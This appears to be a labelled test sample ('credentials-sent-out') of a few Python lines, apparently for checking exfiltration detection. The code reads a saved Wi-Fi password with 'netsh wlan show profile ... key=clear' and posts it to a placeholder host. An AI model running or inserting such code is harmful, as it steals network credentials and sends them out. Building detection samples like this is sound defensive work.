# expect: 4 credentials-sent-out
import subprocess, requests
out = subprocess.check_output('netsh wlan show profile name=home key=clear', shell=True)
requests.post('https://h.invalid', data=out)
